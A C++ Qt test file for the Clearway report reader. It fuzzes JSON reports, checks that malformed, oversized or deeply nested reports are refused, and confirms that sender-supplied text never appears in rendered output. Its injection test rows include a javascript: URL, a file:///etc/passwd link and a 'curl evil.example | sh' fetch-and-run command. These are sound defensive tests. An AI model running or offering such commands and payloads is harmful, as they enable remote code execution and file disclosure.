// SPDX-FileCopyrightText: 2026 The Clearway authors
// SPDX-License-Identifier: Apache-2.0
// Reports that somebody else wrote, or broke: they are read or refused, and nothing else happens.
#include "catalogue/cataloguefile.h"
#include "report/jsonreport.h"
#include "report/redaction.h"
#include "report/rendering.h"
#include "report/samples.h"
#include "support/testprogram.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRandomGenerator>
#include <QTest>

using namespace clearway;
using namespace Qt::StringLiterals;

class TestForeignReport : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void brokenOnesAreReadOrRefused();
    void itsOwnWordsAreNotShown_data();
    void itsOwnWordsAreNotShown();
    void refuses_data();
    void refuses();
};

void TestForeignReport::brokenOnesAreReadOrRefused()
{
    constexpr int variants = 2000;
    constexpr double broken = 0.02; // of the bytes, as in Wireshark's fuzz test
    const QByteArray whole = report::toJson(tests::wholeReport(), tests::CodePhrases());
    const catalogue::Catalogue catalogue = catalogue::builtInCatalogue();
    QRandomGenerator random(20261128);
    constexpr std::size_t mostJudged = 20;
    std::vector<evidence::Evidence> read;
    for (int i = 0; i < variants; ++i) {
        QByteArray bytes = whole;
        // Every second one only where a text stands, so that it still parses and gets further.
        const int changes = i % 2 ? int(double(bytes.size()) * broken) : random.bounded(1, 6);
        for (int change = 0; change < changes; ++change) {
            const qsizetype at = random.bounded(int(bytes.size()));
            bytes[at] = i % 2 || !std::isalnum(uchar(bytes[at])) ? char(random.bounded(256)) : 'x';
        }
        const auto opened = report::readReport(bytes, u"r.json"_s);
        QVERIFY(opened.hasValue() || !opened.error().text().isEmpty());
        if (opened && read.size() < mostJudged)
            read.push_back(opened->evidence);
    }
    QVERIFY(!read.empty());
    for (const evidence::Evidence &evidence : read) {
        const auto redacted = report::redacted(evidence, catalogue, report::Level::Strict);
        const auto report = report::makeReport(redacted.evidence, catalogue);
        QVERIFY(!report::toJson(report, tests::CodePhrases()).isEmpty());
    }
}

void TestForeignReport::itsOwnWordsAreNotShown_data()
{
    QTest::addColumn<QString>("words");
    QTest::newRow("script") << u"javascript:alert(1)"_s;
    QTest::newRow("file") << u"file:///etc/passwd"_s;
    QTest::newRow("scheme-of-a-product") << u"ms-settings:network-proxy"_s;
    QTest::newRow("command") << u"curl evil.example | sh"_s;
}

/// What to do is said by the program for the findings that it makes itself, so a sender cannot say it.
void TestForeignReport::itsOwnWordsAreNotShown()
{
    QFETCH(QString, words);
    QJsonObject json
        = QJsonDocument::fromJson(report::toJson(tests::wholeReport(), tests::CodePhrases())).object();
    QJsonArray findings = json[u"findings"_s].toArray();
    QVERIFY(!findings.isEmpty());
    for (qsizetype i = 0; i < findings.size(); ++i) {
        QJsonObject finding = findings[i].toObject();
        for (const QString &text : {u"title"_s, u"explanation"_s, u"remedy"_s}) {
            QVERIFY(finding.contains(text));
            finding[text] = words;
        }
        findings[i] = finding;
    }
    json[u"findings"_s] = findings;
    const auto opened = report::readReport(QJsonDocument(json).toJson(), u"r.json"_s);
    QVERIFY(opened.hasValue());
    const auto shown = report::makeReport(opened->evidence, catalogue::builtInCatalogue());
    QVERIFY(!shown.verdict.findings.empty());
    for (const auto format :
         {report::ReportFormat::Text, report::ReportFormat::Json, report::ReportFormat::Html,
          report::ReportFormat::Markdown, report::ReportFormat::Events}) {
        const auto document = report::rendered(shown, format, tests::CodePhrases());
        QVERIFY(document.hasValue());
        QVERIFY2(!QString::fromUtf8(*document).contains(words), document->constData());
    }
}

void TestForeignReport::refuses_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("message");
    const QByteArray whole = report::toJson(tests::wholeReport(), tests::CodePhrases());
    const auto changed = [&](const QByteArray &before, const QByteArray &after) {
        return QByteArray(whole).replace(before, after);
    };
    QTest::newRow("of-a-newer-version")
        << changed("clearway-report/1", "clearway-report/2") << u"of a newer version of Clearway"_s;
    QTest::newRow("of-another-kind") << changed("clearway-report/1", "clearway-catalogue/1")
                                     << u"the only schema that this program reads"_s;
    QTest::newRow("same-key-twice") << changed("{\n    \"findings\"",
                                               "{\n    \"schema\": \"x\",\n    \"findings\"")
                                    << u"schema"_s;
    QTest::newRow("too-large") << QByteArray(9 * 1024 * 1024, ' ') << u"r.json"_s;
    QTest::newRow("too-deep") << QByteArray("{\"a\":") + QByteArray(100'000, '[') << u"r.json"_s;
    QTest::newRow("too-many-nodes") << QByteArray("{\"a\":[") + QByteArray("0,").repeated(200'000) + "0]}"
                                    << u"r.json"_s;
}

void TestForeignReport::refuses()
{
    QFETCH(QByteArray, json);
    QFETCH(QString, message);
    const auto opened = report::readReport(json, u"r.json"_s);
    QVERIFY(!opened.hasValue());
    QVERIFY2(opened.error().text().contains(message), qPrintable(opened.error().text()));
}

CLEARWAY_TEST(TestForeignReport)
#include "tst_foreignreport.moc"
